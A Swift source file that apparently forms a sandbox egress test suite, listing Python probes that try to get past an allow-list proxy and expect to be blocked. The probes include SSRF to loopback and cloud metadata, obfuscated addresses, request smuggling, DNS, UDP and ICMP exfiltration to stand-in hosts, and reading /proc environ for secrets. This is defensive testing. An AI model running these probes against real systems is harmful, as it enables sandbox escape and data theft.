extension Attack {
    /// Ways past the proxy, where a run may reach some hosts (`AttackWorld.allowed`). Without walls, what the proxy would
    /// be asked for is asked of the server itself.
    static let egress: [Attack] = [
        Attack(
            "a host that is not on the list, by its name", .egress, evidence: .listenerReached,
            """
            if WALLED: ask(*[b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (n, n) for n in NAMES],
                           *[b"CONNECT %s:443 HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (n, n) for n in NAMES])
            straight((HOST or "localhost", int(PORT)))
            blocked("nobody was reached")
            """),
        Attack(
            "a host that is not on the list, by its address", .egress, evidence: .listenerReached,
            """
            if WALLED:
                ask(*[b"CONNECT %s:443 HTTP/1.1\\r\\n\\r\\n" % a for a in (b"93.184.216.34", b"1.1.1.1", b"[2606:4700::1111]")])
                ask(GREETING("allowed.neo.test"), to=("1.1.1.1", 443))
                ask(GREETING("allowed.neo.test"), to=("2606:4700::1111", 443))
                ask(b"GET / HTTP/1.1\\r\\nHost: allowed.neo.test\\r\\n\\r\\n", to=("1.1.1.1", 80))
            straight(("127.0.0.1", int(PORT)))
            blocked("nobody was reached")
            """),
        Attack(
            "another port of a host that is on the list", .egress, evidence: .listenerReached,
            """
            ports = (22, 25, 8080, int(PORT))
            if WALLED:
                ask(*[b"CONNECT allowed.neo.test:%d HTTP/1.1\\r\\n\\r\\n" % p for p in ports])
                address = socket.getaddrinfo("allowed.neo.test", 80, socket.AF_INET)[0][4][0]
                for port in ports: straight((address, port))
            straight(("127.0.0.1", int(PORT)))
            blocked("nobody was reached")
            """),
        Attack(
            "the host's own services, through the proxy and past it", .egress, evidence: .listenerReached,
            """
            names = (b"localhost", b"127.0.0.1", b"[::1]", b"0.0.0.0", b"[::]", HOST.encode() or b"127.0.0.2")
            if WALLED: ask(*[b"CONNECT %s:%s HTTP/1.1\\r\\n\\r\\n" % (n, PORT.encode()) for n in names])
            for name in ("127.0.0.1", "::1", HOST or "127.0.0.2"): straight((name, int(PORT)))
            blocked("nobody was reached")
            """),
        Attack(
            "addresses written otherwise (octal, decimal, hexadecimal, short, mapped, NAT64)", .egress,
            evidence: .listenerReached,
            """
            hosts = [b"0177.0.0.1", b"2130706433", b"0x7f000001", b"127.1", b"0x7f.1", b"127.0.0.1.", b"[::ffff:127.0.0.1]",
                     b"[::ffff:7f00:1]", b"[::127.0.0.1]", b"[64:ff9b::7f00:1]", b"[fe80::1%25lo]", b"\\xef\\xbc\\x91\\xef\\xbc\\x92\\xef\\xbc\\x97.0.0.1"]
            if WALLED: ask(*[b"CONNECT %s:443 HTTP/1.1\\r\\n\\r\\n" % h for h in hosts])
            straight(("0177.0.0.1", int(PORT)))
            blocked("nobody was reached")
            """),
        Attack(
            "names that two programs read in two ways (NUL, trailing dot, escapes, user part)", .egress,
            evidence: .listenerReached,
            """
            hosts = [b"1.1.1.1\\0.allowed.neo.test", b"allowed.neo.test\\0.bad.test", b"bad.test%00.allowed.neo.test",
                     b"allowed.neo.test@bad.test", b"bad.test#.allowed.neo.test", b"bad.test/.allowed.neo.test",
                     b"bad.test\\\\.allowed.neo.test", b"bad.test..", b".allowed.neo.test", b"bad.test\\t.allowed.neo.test"]
            if WALLED:
                ask(*[b"CONNECT %s:443 HTTP/1.1\\r\\n\\r\\n" % h for h in hosts])
                ask(*[b"GET http://%s/ HTTP/1.1\\r\\nHost: allowed.neo.test\\r\\n\\r\\n" % h for h in hosts])
            straight(("127.0.0.1", int(PORT)))
            blocked("nobody was reached")
            """),
        Attack(
            "a name on the list that leads to private addresses and to the cloud's metadata", .egress,
            evidence: .listenerReached,
            """
            name = b"rebound.neo.test"
            if WALLED:
                ask(b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (name, name), b"CONNECT %s:443 HTTP/1.1\\r\\n\\r\\n" % name)
                ask(b"GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n", to=("169.254.169.254", 80))
                ask(b"GET / HTTP/1.1\\r\\nHost: rebound.neo.test\\r\\n\\r\\n", to=(name.decode(), 80))
            straight(("127.0.0.1", int(PORT)))
            blocked("nobody was reached")
            """),
        Attack(
            "a TLS greeting for another host than the tunnel's (SNI)", .egress,
            """
            for name in ("bad.test", "allowed.neo.test.bad.test", "deep.neo.test"):
                judge_reply(tunnel(b"allowed.neo.test:443", GREETING(name)))
            if WALLED: judge_reply(ask(GREETING("bad.test"), to=("allowed.neo.test", 443)))
            blocked("it was not let through")
            """),
        Attack(
            "something else than TLS in a tunnel for TLS", .egress,
            """
            for first in (b"SSH-2.0-x\\r\\n", b"GET / HTTP/1.1\\r\\nHost: bad.test\\r\\n\\r\\n", bytes(64)):
                judge_reply(tunnel(b"allowed.neo.test:443", first))
            blocked("it was not let through")
            """),
        Attack(
            "a Host header for another host than the request's", .egress,
            """
            judge_reply(ask(b"GET http://allowed.neo.test/ HTTP/1.1\\r\\nHost: bad.test\\r\\n\\r\\n"))
            judge_reply(ask(b"GET http://allowed.neo.test/ HTTP/1.1\\r\\nHost: allowed.neo.test\\r\\nHost: bad.test\\r\\n\\r\\n"))
            judge_reply(tunnel(b"allowed.neo.test:80", b"GET / HTTP/1.1\\r\\nHost: bad.test\\r\\n\\r\\n"))
            if WALLED: judge_reply(ask(b"GET / HTTP/1.1\\r\\nHost: bad.test\\r\\n\\r\\n", to=("allowed.neo.test", 80)))
            blocked("it was not let through")
            """),
        Attack(
            "a second request hidden in the first (lengths that disagree)", .egress,
            """
            head = b"POST http://allowed.neo.test/ HTTP/1.1\\r\\nHost: allowed.neo.test\\r\\n"
            for trick in (b"Content-Length: 4\\r\\nTransfer-Encoding: chunked", b"Content-Length: 3\\r\\nContent-Length: 4",
                          b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked", b"Content-Length: +4"):
                judge_reply(ask(head + trick + b"\\r\\n\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: bad.test\\r\\n\\r\\n"))
            blocked("it was not let through")
            """),
        Attack(
            "writing where only reading is allowed (a rule with methods)", .egress,
            """
            head = b" HTTP/1.1\\r\\nHost: readonly.neo.test\\r\\nContent-Length: 1\\r\\n\\r\\nx"
            for method in (b"POST", b"PUT", b"DELETE", b"PATCH"):
                judge_reply(ask(method + b" http://readonly.neo.test/" + head))
            judge_reply(tunnel(b"readonly.neo.test:443", GREETING("readonly.neo.test")))
            judge_reply(tunnel(b"readonly.neo.test:80", b"POST /" + head))
            blocked("it was not let through")
            """),
        Attack(
            "secrets in names that are asked for, also below names on the list (DNS)", .egress, evidence: .nameAsked,
            """
            label = MARK.lower().replace("-", "")[:40]
            for name in (label + ".bad.test", label + ".allowed.neo.test", label + ".deep.neo.test"):
                for kind in (1, 28, 16, 15, 255): question(name, kind)
                try: socket.getaddrinfo(name, 80)
                except OSError: pass
            blocked("nobody outside was asked")
            """),
        Attack(
            "UDP to the host and to the outside", .egress, evidence: .listenerReached,
            """
            for target in (("127.0.0.1", int(os.environ["NEO_UDP"])), ("1.1.1.1", 53), ("1.1.1.1", 443), ("8.8.8.8", 123)):
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.settimeout(0.3)
                try: s.connect(target); s.send(b"secret"); s.recv(9)
                except OSError as problem: ctypes.set_errno(problem.errno or 0)
            blocked(why())
            """),
        Attack(
            "secrets in an echo request (ICMP), with a network", .egress, remedy: Remedy.filter,
            """
            for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
                for family, proto, host in ((socket.AF_INET, 1, "127.0.0.1"), (socket.AF_INET6, 58, "::1")):
                    try:
                        s = socket.socket(family, kind, proto)
                        s.sendto(struct.pack(">BBHHH", 8 if proto == 1 else 128, 0, 0xF7FF, 0, 0), (host, 0))
                        through("the packet left")
                    except OSError as problem: ctypes.set_errno(problem.errno)
            blocked(why())
            """),
        Attack(
            "frames and packets of one's own, with a network (packet, raw)", .egress, remedy: Remedy.filter,
            """
            for family, kind, proto in ((17, 3, 768), (17, 2, 768), (2, 3, 255), (2, 3, 6), (10, 3, 255)):
                try: socket.socket(family, kind, proto); through("the socket was opened")
                except OSError as problem: ctypes.set_errno(problem.errno)
            blocked(why())
            """),
        Attack(
            "routes and devices are changed", .egress, remedy: Remedy.filter,
            """
            import fcntl
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            lo = struct.pack("16sh14x", b"lo", 0)
            flags = fcntl.ioctl(s, 0x8913, lo)
            for request, argument in ((0x8914, flags), (0x8922, struct.pack("16si12x", b"lo", 65536))):
                try: fcntl.ioctl(s, request, argument); through("the device was changed")
                except OSError as problem: ctypes.set_errno(problem.errno)
            try: socket.socket(16, 3, 0); through("routes can be changed (netlink)")
            except OSError as problem: ctypes.set_errno(problem.errno)
            blocked(why())
            """),
        Attack(
            "the proxy's listener is taken over", .egress,
            """
            places = [("127.0.0.1", 3128), ("0.0.0.0", 80), ("127.0.0.1", 443)]
            if not WALLED: places = [("127.0.0.1", 0)]
            for place in places:
                s = socket.socket()
                for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): s.setsockopt(socket.SOL_SOCKET, option, 1)
                try: s.bind(place); s.listen(); through("listens on %s:%d" % place)
                except OSError as problem: ctypes.set_errno(problem.errno)
            blocked(why())
            """),
        Attack(
            "a unix socket of the host, with a network", .egress, evidence: .listenerReached,
            """
            for name in (chr(0) + os.environ["NEO_ABSTRACT"], os.environ["NEO_SOCKET"]):
                try: socket.socket(socket.AF_UNIX).connect(name); through("connected")
                except OSError as problem: ctypes.set_errno(problem.errno)
            blocked(why())
            """),
        Attack(
            "the key of a server that is used through the proxy", .egress, remedy: Remedy.report,
            """
            key = MARK.replace("neo-", "key-")
            for place in ["/proc/self/environ"] + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
                try:
                    if key in read(place): through("it is in " + place)
                except OSError as problem: ctypes.set_errno(problem.errno)
            if WALLED and key.encode() in ask(b"TRACE http://vault.neo.internal/ HTTP/1.1\\r\\nHost: vault.neo.internal\\r\\n\\r\\n"):
                through("the server's answer had it")
            blocked("it is not there")
            """),
    ]
}
